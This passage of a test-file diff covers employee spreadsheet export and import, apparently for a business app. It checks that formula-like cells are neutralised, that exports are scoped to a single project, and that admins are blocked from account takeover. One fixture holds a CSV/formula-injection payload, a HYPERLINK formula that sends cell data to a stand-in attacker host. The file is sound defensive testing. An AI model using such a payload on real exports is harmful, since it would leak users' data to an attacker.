+      const notSheet = await refused(p.id, 'people.xlsx', Buffer.from([0x25, 0x50, 0x44, 0x46, 0x00, 0xff]), { lang: 'ru' });
+      expect(notSheet.json()).toEqual({ file: ['Загрузите файл .xlsx или .csv.'] });
+    });
+  });
+
+  describe('export', () => {
+    /** A project whose employees have formula-like values, an admin and reporting lines. */
+    async function exportProject() {
+      const p = await freshProject();
+      const trap = await addEmployee(t.deps, p.c, {
+        number: '=1+1',
+        firstName: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        lastName: '+1',
+        departmentId: p.engineering.id,
+        subDepartmentId: p.backend.id,
+        positionId: p.engineer.id,
+        reportToId: p.murad.id,
+      });
+      const at = await addEmployee(t.deps, p.c, { number: 'X-2', firstName: '@x', lastName: '-2', departmentId: p.sales.id, positionId: p.rep.id, reportToId: trap.id });
+      const admin = await addEmployee(t.deps, p.c, { role: 'admin', number: 'A-1', firstName: 'Ülviyyə', lastName: 'Şükürova', reportToId: p.murad.id });
+      return { ...p, trap, at, admin };
+    }
+
+    const expectedRows = (p: Awaited<ReturnType<typeof exportProject>>) => [
+      COLUMNS,
+      // ordered by employee number; formula-like cells carry a leading apostrophe
+      ["'=1+1", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'+1", p.trap.account.email, p.trap.account.username, '', 'user', 'Engineering', 'Backend', 'Engineer', 'M-1'],
+      ['A-1', 'Ülviyyə', 'Şükürova', p.admin.account.email, p.admin.account.username, '', 'admin', '', '', '', 'M-1'],
+      ['M-1', 'Murad', 'Huseynov', p.murad.account.email, p.murad.account.username, '', 'user', 'Engineering', '', 'Head of Engineering', ''],
+      ['X-2', "'@x", "'-2", p.at.account.email, p.at.account.username, '', 'user', 'Sales', '', 'Sales Rep', "'=1+1"],
+    ];
+
+    it('XLSX and CSV carry the same columns and rows, with formula-like cells neutralised', async () => {
+      const p = await exportProject();
+      const x = await call(t.app, 'GET', `${EXPORT}?format=xlsx`, { token, project: p.id });
+      expect(x.statusCode).toBe(200);
+      expect(x.headers['content-type']).toBe(XLSX_TYPE);
+      expect(x.headers['content-disposition']).toBe('attachment; filename="employees.xlsx"');
+      const sheet = await readXlsx(x.rawPayload);
+      expect(sheet.rows).toEqual(expectedRows(p));
+      // Every cell is plain text: nothing a spreadsheet would evaluate.
+      expect([...sheet.types].every((type) => type === ExcelJS.ValueType.String || type === ExcelJS.ValueType.Null)).toBe(true);
+
+      const c = await call(t.app, 'GET', `${EXPORT}?format=csv`, { token, project: p.id });
+      expect(c.statusCode).toBe(200);
+      expect(c.headers['content-type']).toMatch(/^text\/csv/);
+      expect(c.headers['content-disposition']).toBe('attachment; filename="employees.csv"');
+      expect(readCsv(c.rawPayload)).toEqual(expectedRows(p));
+    });
+
+    it('exports only the selected project', async () => {
+      const p = await exportProject();
+      const other = await freshProject();
+      const res = await call(t.app, 'GET', `${EXPORT}?format=csv`, { token, project: other.id });
+      const rows = readCsv(res.rawPayload);
+      expect(rows.map((r) => r[0])).toEqual(['employee_number', 'M-1']);
+      expect(rows[1]![4]).toBe(other.murad.account.username);
+      expect(rows.flat()).not.toContain(p.murad.account.username);
+    });
+
+    it.each(['xlsx', 'csv'] as const)('export → import (%s) changes nothing: every row updates, none is created', async (format) => {
+      const p = await exportProject();
+      const before = await snapshot(p.id);
+      const exported = (await call(t.app, 'GET', `${EXPORT}?format=${format}`, { token, project: p.id })).rawPayload;
+      const res = await send(p.id, `employees.${format}`, exported);
+      expect(res.statusCode, res.body).toBe(200);
+      expect(res.json()).toEqual({ created: 0, updated: 4 });
+      expect(await snapshot(p.id)).toEqual(before);
+      // and the file exported afterwards is the same file
+      const again = (await call(t.app, 'GET', `${EXPORT}?format=csv`, { token, project: p.id })).rawPayload;
+      expect(readCsv(again)).toEqual(expectedRows(p));
+    });
+
+    it('an admin (not a super admin) round-trips a file that lists admins, but cannot change roles or admins’ sign-in', async () => {
+      const p = await exportProject();
+      // The super admin is an employee too (exported with the role "admin").
+      await t.deps.db.insert(employees).values({ companyId: acme.companyId, projectId: p.id, accountId: acme.owner.id, employeeNumber: 'S-1', firstName: 'Owner', lastName: 'Account' });
+      const admin = await addEmployee(t.deps, p.c, { role: 'admin', number: 'A-2', firstName: 'Samir', lastName: 'Nəsibov' });
+      const adminToken = (await signIn(t, admin.account.username)).access;
+      const before = await snapshot(p.id);
+      const exported = (await call(t.app, 'GET', `${EXPORT}?format=csv`, { token: adminToken, project: p.id })).rawPayload;
+      const rows = readCsv(exported);
+      expect(rows.find((r) => r[0] === 'S-1')![COLUMNS.indexOf('role')]).toBe('admin');
+      const roundTrip = await send(p.id, 'employees.csv', exported, { as: adminToken });
+      expect(roundTrip.statusCode, roundTrip.body).toBe(200);
+      expect(roundTrip.json()).toEqual({ created: 0, updated: 6 });
+      expect(await snapshot(p.id)).toEqual(before);
+
+      const forbidden = 'You do not have permission to perform this action.';
+      const attempts: Array<[string, string, string, string]> = [
+        ['M-1', 'role', 'admin', 'Select a valid choice.'], // promote a user
+        ['A-1', 'role', 'user', 'Select a valid choice.'], // demote an admin
+        ['A-1', 'password', 'Taken-over-1', forbidden], // take over another admin's account
+        ['S-1', 'password', 'Taken-over-1', forbidden], // … or the super admin's
+        ['S-1', 'email', `takeover-${run}@example.com`, forbidden],
+        ['A-1', 'username', `takeover_${run}`, forbidden],
+      ];
+      for (const [number, column, value, message] of attempts) {
+        const changed = rows.map((r) => [...r]);
+        const line = changed.findIndex((r) => r[0] === number);
+        changed[line]![COLUMNS.indexOf(column)] = value;
+        const res = await refused(p.id, 'employees.csv', csv(changed), { as: adminToken });
+        expect(res.statusCode, `${number} ${column}`).toBe(422);
+        expect(res.json().errors).toEqual([{ row: line + 1, column, message }]);
+      }
+      // A new admin from an admin's file is refused too; the super admin may do all of it.
+      const newcomer = person('newadmin');
+      const withNew = [...rows, ['N-1', 'New', 'Admin', newcomer.email, newcomer.username, '', 'admin', '', '', '', '']];
+      const res = await refused(p.id, 'employees.csv', csv(withNew), { as: adminToken });
+      expect(res.json().errors).toEqual([{ row: withNew.length, column: 'role', message: 'Select a valid choice.' }]);
+      const promoted = rows.map((r) => [...r]);
+      promoted[promoted.findIndex((r) => r[0] === 'A-1')]![COLUMNS.indexOf('password')] = 'Reset-by-owner-1';
+      expect((await send(p.id, 'employees.csv', csv(promoted))).json()).toEqual({ created: 0, updated: 6 });
+    });
+  });
+});
